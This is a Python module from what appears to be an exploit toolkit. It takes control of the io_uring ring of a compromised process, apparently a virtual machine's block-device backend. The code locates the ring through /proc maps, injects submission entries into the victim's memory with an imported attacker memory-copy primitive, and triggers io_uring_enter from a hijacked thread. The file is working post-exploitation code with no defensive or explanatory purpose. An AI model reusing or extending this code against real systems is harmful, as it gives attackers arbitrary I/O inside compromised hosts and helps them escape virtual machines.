"""A ring of io_uring's that a machine has, as somebody who took it over writes to it."""

import ctypes
import os
import re
import struct
from pathlib import Path

from attacker import COPY_MEMORY

SYS_IO_URING_SETUP, SYS_IO_URING_ENTER = 425, 426
GETEVENTS = 1
ENTRIES = 256  # virtio/block/uring_engine.cc
# struct io_uring_params: what of it is the offsets' of either ring.
PARAMS_BYTES = 120
SQ_OFFSETS, CQ_OFFSETS = struct.Struct("<10I"), struct.Struct("<10I")
SQ_AT, CQ_AT = 40, 80
SQE = struct.Struct("<BBHiQQIIQ")
SQE_BYTES, CQE_BYTES = 64, 16
SQES_AT = 0x10000000  # the offset by which they are mapped
NOBODY = (1 << 64) - 1  # whose completion the device passes over


class Ring:
    """The only one of a machine."""

    def __init__(self, attacker):
        self.attacker = attacker
        self.descriptor, = attacker.descriptors(r"anon_inode:\[io_uring\]")
        self.rings, self.entries = self.mappings()
        offsets = self.offsets()
        self.sq, self.cq = SQ_OFFSETS.unpack_from(offsets, SQ_AT), CQ_OFFSETS.unpack_from(offsets, CQ_AT)

    def mappings(self):
        maps = Path(f"/proc/{self.attacker.process.pid}/maps").read_text()
        at = {int(offset, 16): int(address, 16) for address, offset in re.findall(
            r"(?m)^([0-9a-f]+)-\S+ \S+ ([0-9a-f]+) .*anon_inode:\[io_uring\]", maps)}
        return at[0], at[SQES_AT]

    @staticmethod
    def offsets():
        """Where the kernel has which word of a ring as large: of one of our own."""
        params = ctypes.create_string_buffer(PARAMS_BYTES)
        descriptor = ctypes.CDLL(None, use_errno=True).syscall(SYS_IO_URING_SETUP, ENTRIES, params)
        assert descriptor >= 0, os.strerror(ctypes.get_errno())
        os.close(descriptor)
        return params.raw

    def load(self, thread, address, count=4):
        into = self.attacker.write(bytes(count), 2048)
        assert self.attacker.call(thread, COPY_MEMORY, into, address, count) == 0
        return self.attacker.read(count, 2048)

    def word(self, thread, offset):
        return struct.unpack("<I", self.load(thread, self.rings + offset))[0]

    def store(self, thread, address, content):
        at = self.attacker.write(content, 2048)
        assert self.attacker.call(thread, COPY_MEMORY, address, at, len(content)) == 0

    def submit(self, thread, operation, descriptor=-1, address=0, length=0, offset=0):
        """What comes of an operation: its completion's result."""
        _, sq_tail, sq_mask, *_ = self.sq
        sq_array = self.sq[6]
        _, cq_tail, cq_mask, _, _, cqes, *_ = self.cq
        tail = self.word(thread, sq_tail)
        slot = tail & self.word(thread, sq_mask)
        entry = SQE.pack(operation, 0, 0, descriptor, offset, address, length, 0, NOBODY)
        self.store(thread, self.entries + slot * SQE_BYTES, entry.ljust(SQE_BYTES, b"\0"))
        self.store(thread, self.rings + sq_array + 4 * slot, struct.pack("<I", slot))
        completed = self.word(thread, cq_tail)
        self.store(thread, self.rings + sq_tail, struct.pack("<I", tail + 1))
        taken = self.attacker.call(thread, SYS_IO_URING_ENTER, self.descriptor, 1, 0, GETEVENTS, 0, 0)
        assert taken == 1, taken
        assert self.word(thread, cq_tail) == completed + 1
        at = self.rings + cqes + CQE_BYTES * (completed & self.word(thread, cq_mask))
        return struct.unpack("<Qi", self.load(thread, at, 12))[1]
